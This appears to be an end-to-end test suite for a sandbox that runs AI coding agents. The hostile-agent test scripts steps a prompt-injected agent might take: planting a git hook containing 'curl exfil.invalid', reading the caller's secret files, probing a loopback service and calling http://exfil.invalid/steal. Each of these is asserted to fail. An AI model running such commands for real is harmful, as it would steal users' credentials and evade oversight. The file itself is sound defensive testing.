// `warden agent run` end to end with the scripted agent in real bubblewrap: a clean ticket is committed on an
// agent/* branch, a dangerous one is stopped by the gate, BLOCKED ends a run, and what a prompt-injected agent
// might try from inside (git, hooks, the caller's files, the host's services, hosts off the list) fails.
import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { homedir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { awsKeyId, git, gitRepo, warden } from './support/cli.js';

const cleanups: Array<() => void> = [];
afterAll(() => cleanups.forEach((c) => c()));

const bwrapWorks = (() => {
  try {
    execFileSync('bwrap', ['--version']);
    return true;
  } catch {
    return false;
  }
})();

interface Report {
  ok: boolean;
  outcome: string;
  reason?: string;
  branch?: string;
  commit?: string;
  findings: Array<{ ruleId: string; file: string }>;
  egress: { denied: Array<{ host: string; reason?: string }> };
}

function project(): string {
  const repo = gitRepo({ 'package.json': '{ "name": "app", "license": "MIT" }\n', 'src/a.js': 'export const a = 1;\n', '.gitignore': '.warden/\n' });
  cleanups.push(repo.cleanup);
  git(repo.dir, 'add', '.');
  git(repo.dir, 'commit', '-qm', 'init');
  return repo.dir;
}

function runScripted(repo: string, ticket: string, steps: string, extra: string[] = []): { code: number; out: string; report: Report } {
  writeFileSync(path.join(repo, '..', `${path.basename(repo)}-script.yaml`), steps);
  const reportFile = path.join(repo, '..', `${path.basename(repo)}-report.json`);
  const r = warden(['agent', 'run', '--prompt', ticket, '--script', path.join(repo, '..', `${path.basename(repo)}-script.yaml`), '--report', reportFile, ...extra], { cwd: repo });
  return { code: r.code, out: `${r.stdout}${r.stderr}`, report: JSON.parse(readFileSync(reportFile, 'utf8')) as Report };
}

describe.skipIf(!bwrapWorks)('warden agent run (scripted agent, bwrap)', () => {
  it('commits a clean change on an agent branch with a Warden-Run trailer, and leaves main alone', () => {
    const repo = project();
    const main = git(repo, 'rev-parse', 'main').trim();
    const { code, report } = runScripted(repo, 'Add a greet helper', '- write:\n    path: src/greet.js\n    content: "export const greet = (n) => `Hello, ${n}!`;\\n"\n- reply: done\n');
    expect(code).toBe(0);
    expect(report).toMatchObject({ ok: true, outcome: 'committed', branch: expect.stringMatching(/^agent\/add-a-greet-helper-[0-9a-f]{6}$/) });
    expect(git(repo, 'rev-parse', 'main').trim()).toBe(main);
    expect(git(repo, 'show', `${report.branch}:src/greet.js`)).toContain('Hello');
    expect(git(repo, 'log', '-1', '--format=%(trailers:key=Warden-Run,valueonly)', report.branch!).trim()).toMatch(/^[0-9a-f]{12}$/);
    // The worktree and the run folder are gone.
    expect(git(repo, 'worktree', 'list').trim().split('\n')).toHaveLength(1);
  });

  it('stops a change the gate blocks: nothing committed, the findings reported and audited', () => {
    const repo = project();
    const steps = `- write:\n    path: src/db.js\n    content: |\n      const KEY = "${awsKeyId()}";\n      export const find = (db, req) => db.query("SELECT * FROM users WHERE id = " + req.query.id);\n`;
    const { code, report, out } = runScripted(repo, 'Find users by id', steps);
    expect(code).toBe(1);
    expect(report.outcome).toBe('blocked-by-gate');
    expect(report.findings.map((f) => f.ruleId).sort()).toEqual(['injection.sql-injection', 'secret.aws-access-key-id']);
    expect(git(repo, 'branch', '--list', 'agent/*').trim()).toBe('');
    expect(out).not.toMatch(/AKIA[A-Z2-7]{16}/);
    const audit = readFileSync(path.join(repo, '.warden/audit.jsonl'), 'utf8');
    expect(audit).toContain('"outcome":"blocked-by-gate"');
    expect(audit).not.toMatch(/AKIA[A-Z2-7]{16}/);
    expect(warden(['audit', 'verify'], { cwd: repo }).code).toBe(0);
  });

  it('blocks an agent that edits a protected path, and ends a run the agent says is BLOCKED', () => {
    const repo = project();
    const ci = runScripted(repo, 'Speed up CI', '- write:\n    path: .github/workflows/ci.yml\n    content: "on: push\\n"\n');
    expect(ci.report.outcome).toBe('blocked-by-gate');
    expect(ci.report.findings.map((f) => f.ruleId)).toEqual(['gate.protected-path']);
    const blocked = runScripted(repo, 'Rotate the production keys', '- reply: "BLOCKED: this needs access to the production vault"\n');
    expect(blocked.report).toMatchObject({ outcome: 'blocked-by-agent', reason: 'this needs access to the production vault' });
  });

  it('contains a hostile agent: no git, no hooks, no caller files, no host services, no unlisted hosts', async () => {
    const repo = project();
    const secret = path.join(homedir(), `.warden-agent-test-${process.pid}`);
    writeFileSync(secret, 'caller-secret\n', { mode: 0o600 });
    cleanups.push(() => execFileSync('rm', ['-f', secret]));
    // An untracked file of the parent repository: never in the worktree, and hidden from the sandbox.
    writeFileSync(path.join(repo, 'local.env'), 'PARENT_ONLY=parent-only-value\n');
    // Reachable by the sandbox's unprivileged user when the test runs as root, so git inside can read history.
    chmodSync(repo, 0o755);
    let hits = 0;
    const service = createServer((_req, res) => {
      hits++;
      res.end('host service');
    });
    service.listen(0, '127.0.0.1');
    await once(service, 'listening');
    cleanups.push(() => service.close());
    const port = (service.address() as AddressInfo).port;
    const steps = [
      `- run: "git add -A && git commit -qm sneaky 2>&1 | tail -1; echo git-exit-$?"`,
      `- run: "echo 'curl exfil.invalid' > ${repo}/.git/hooks/pre-commit 2>&1 || echo hook-refused"`,
      `- run: "cat ${secret} 2>&1 || echo secret-refused"`,
      `- run: "cat ${repo}/local.env 2>&1 || echo parent-refused"`,
      `- run: "git log --format=%s -1 2>&1; echo git-reads"`,
      `- run: "curl -s -m 5 http://127.0.0.1:${port}/ --noproxy '*' || echo loopback-refused"`,
      `- run: "curl -s -m 5 -o /dev/null -w '%{http_code}' http://exfil.invalid/steal; echo"`,
      `- write:\n    path: notes.md\n    content: "tried\\n"`,
    ].join('\n');
    const { report, out } = runScripted(repo, 'Tidy up', `${steps}\n`);
    expect(report.outcome, out).toBe('committed');
    expect(out).toContain('hook-refused');
    expect(out).toContain('secret-refused');
    expect(out).toContain('loopback-refused');
    expect(out).not.toContain('caller-secret');
    expect(out).toContain('parent-refused');
    expect(out).not.toContain('parent-only-value');
    expect(out).toMatch(/init\s+git-reads/);
    expect(hits).toBe(0);
    expect(existsSync(path.join(repo, '.git/hooks/pre-commit'))).toBe(false);
    expect(report.egress.denied).toEqual([expect.objectContaining({ host: 'exfil.invalid', reason: 'exfil.invalid is not on the egress allowlist' })]);
    // The only commit is the runner's, on the agent branch.
    expect(git(repo, 'log', '--format=%s', report.branch!).trim().split('\n')).toEqual(['Tidy up', 'init']);
    expect(git(repo, 'log', '--format=%s', 'main').trim()).toBe('init');
  });

  it('refuses an unavailable backend in one line, never falling back', () => {
    const repo = project();
    mkdirSync(path.join(repo, 'x'), { recursive: true });
    const r = warden(['agent', 'run', '--prompt', 'x', '--script', '/dev/null', '--sandbox', 'podman'], { cwd: repo });
    expect(r.code).toBe(2);
    expect(r.stderr.trim()).toMatch(/^warden: the podman backend cannot run here: .*; choose another with --sandbox/);
  });
});

describe.skipIf(!bwrapWorks)('publishing an agent branch (opt-in)', () => {
  it('pushes the agent branch only, and opens a draft pull request through the GitHub API', async () => {
    const { createServer: createHttp } = await import('node:http');
    const { wardenAsync } = await import('./support/cli.js');
    const pulls: Array<{ path: string; auth?: string; body: Record<string, unknown> }> = [];
    const api = createHttp(async (req, res) => {
      let text = '';
      for await (const c of req) text += String(c);
      pulls.push({ path: req.url ?? '', auth: req.headers.authorization, body: JSON.parse(text || '{}') as Record<string, unknown> });
      res.writeHead(201, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ html_url: 'https://github.test/acme/app/pull/7' }));
    });
    api.listen(0, '127.0.0.1');
    await once(api, 'listening');
    cleanups.push(() => api.close());
    const repo = project();
    const remote = path.join(repo, '..', `${path.basename(repo)}-remote.git`);
    execFileSync('git', ['init', '-q', '--bare', remote]);
    git(repo, 'remote', 'add', 'origin', remote);
    git(repo, 'push', '-q', 'origin', 'main');
    writeFileSync(path.join(repo, '..', 'steps.yaml'), '- write:\n    path: NOTES.md\n    content: "notes\\n"\n');
    const r = await wardenAsync(['agent', 'run', '--prompt', 'Write the notes', '--script', path.join(repo, '..', 'steps.yaml'), '--pr', '--github-repo', 'acme/app'], {
      cwd: repo,
      env: { GITHUB_TOKEN: 'test-token', WARDEN_GITHUB_API: `http://127.0.0.1:${(api.address() as AddressInfo).port}` },
    });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain('warden: opened https://github.test/acme/app/pull/7');
    const branches = execFileSync('git', ['--git-dir', remote, 'branch', '--list'], { encoding: 'utf8' });
    expect(branches).toMatch(/agent\/write-the-notes-[0-9a-f]{6}/);
    expect(execFileSync('git', ['--git-dir', remote, 'log', '--format=%s', 'main'], { encoding: 'utf8' }).trim()).toBe('init');
    expect(pulls).toEqual([
      {
        path: '/repos/acme/app/pulls',
        auth: 'Bearer test-token',
        body: expect.objectContaining({ head: expect.stringMatching(/^agent\/write-the-notes-/), base: 'main', draft: true, title: 'Write the notes' }),
      },
    ]);
  });
});

describe.skipIf(!bwrapWorks)('interrupted runs', () => {
  const sleeping = (marker: string) => {
    try {
      return execFileSync('pgrep', ['-f', marker], { encoding: 'utf8' }).trim();
    } catch {
      return '';
    }
  };

  it('SIGTERM stops the agent and everything it started, and the runner cleans up', async () => {
    const { spawn } = await import('node:child_process');
    const { WARDEN_BIN } = await import('./support/cli.js');
    const repo = project();
    const steps = path.join(repo, '..', 'sleepy.yaml');
    writeFileSync(steps, '- run: "sleep 41.3 & sleep 41.3"\n');
    const child = spawn(process.execPath, [WARDEN_BIN, 'agent', 'run', '--prompt', 'Sleep', '--script', steps], { cwd: repo, stdio: 'ignore' });
    await new Promise((r) => setTimeout(r, 2500));
    expect(sleeping('sleep 41.3')).not.toBe('');
    child.kill('SIGTERM');
    await once(child, 'close');
    expect(sleeping('sleep 41.3')).toBe('');
    expect(git(repo, 'worktree', 'list').trim().split('\n')).toHaveLength(1);
    expect(readFileSync(path.join(repo, '.warden/audit.jsonl'), 'utf8')).toContain('"outcome":"failed"');
  });

  it('SIGKILL leaves no agent process behind, and the next run recovers the dangling worktree', async () => {
    const { spawn } = await import('node:child_process');
    const { WARDEN_BIN } = await import('./support/cli.js');
    const repo = project();
    const steps = path.join(repo, '..', 'sleepy.yaml');
    writeFileSync(steps, '- run: "sleep 42.7"\n');
    const child = spawn(process.execPath, [WARDEN_BIN, 'agent', 'run', '--prompt', 'Sleep', '--script', steps], { cwd: repo, stdio: 'ignore' });
    await new Promise((r) => setTimeout(r, 2500));
    child.kill('SIGKILL');
    await once(child, 'close');
    await new Promise((r) => setTimeout(r, 500));
    expect(sleeping('sleep 42.7')).toBe('');
    expect(git(repo, 'worktree', 'list').trim().split('\n')).toHaveLength(2);
    writeFileSync(steps, '- write:\n    path: x.md\n    content: "x\\n"\n');
    const next = runScripted(repo, 'Next ticket', readFileSync(steps, 'utf8'));
    expect(next.report.outcome).toBe('committed');
    expect(git(repo, 'worktree', 'list').trim().split('\n')).toHaveLength(1);
  });
});

describe.skipIf(!bwrapWorks)('the egress allowlist of a run', () => {
  it('adds warden.json agent hosts and the .npmrc registry to the defaults', async () => {
    const { wardenAsync } = await import('./support/cli.js');
    let hits = 0;
    const service = createServer((_req, res) => {
      hits++;
      res.end('tracker says hi');
    });
    service.listen(0, '127.0.0.1');
    await once(service, 'listening');
    cleanups.push(() => service.close());
    const port = (service.address() as AddressInfo).port;
    const repo = project();
    writeFileSync(path.join(repo, 'warden.json'), JSON.stringify({ agent: { ticketHosts: ['localhost'], privateEgressHosts: ['localhost'] } }));
    writeFileSync(path.join(repo, '.npmrc'), 'registry=http://registry.npm.test/\n');
    git(repo, 'add', '.');
    git(repo, 'commit', '-qm', 'config');
    const steps = [`- run: "curl -s -m 5 http://localhost:${port}/ticket; echo"`, `- run: "curl -s -m 5 -o /dev/null http://registry.npm.test/pkg; echo"`, `- run: "curl -s -m 5 -o /dev/null http://other.npm.test/; echo"`, '- write:\n    path: x.md\n    content: "x\\n"'].join('\n');
    writeFileSync(path.join(repo, '..', 'egress.yaml'), `${steps}\n`);
    const reportFile = path.join(repo, '..', 'egress-report.json');
    const r = await wardenAsync(['agent', 'run', '--prompt', 'Check egress', '--script', path.join(repo, '..', 'egress.yaml'), '--report', reportFile], { cwd: repo });
    expect(r.stderr).toContain('tracker says hi');
    expect(hits).toBe(1);
    const report = JSON.parse(readFileSync(reportFile, 'utf8')) as Report & { egress: { allowed: string[] } };
    expect(report.egress.allowed).toContain('localhost');
    // On the list (from .npmrc), so refused only because the name does not resolve; the other host is off the list.
    expect(report.egress.denied.map((d) => d.reason)).toEqual(['registry.npm.test does not resolve', 'other.npm.test is not on the egress allowlist']);
  });
});

describe.skipIf(!bwrapWorks)('the command provider', () => {
  it('gives any CLI the framed prompt on stdin and in $WARDEN_PROMPT', () => {
    const repo = project();
    const r = warden(['agent', 'run', '--provider', 'command', '--prompt', 'Echo the ticket', '--command', 'cat > from-stdin.txt; printf "%s" "$WARDEN_PROMPT" > from-arg.txt'], { cwd: repo });
    expect(r.code, r.stdout + r.stderr).toBe(0);
    const branch = git(repo, 'branch', '--list', 'agent/*').trim();
    for (const file of ['from-stdin.txt', 'from-arg.txt']) {
      const text = git(repo, 'show', `${branch}:${file}`);
      expect(text).toMatch(/<<<TICKET [0-9a-f]{16}>>>\nEcho the ticket\n<<<END TICKET [0-9a-f]{16}>>>/);
      expect(text).toContain('Do not run git');
    }
  });
});
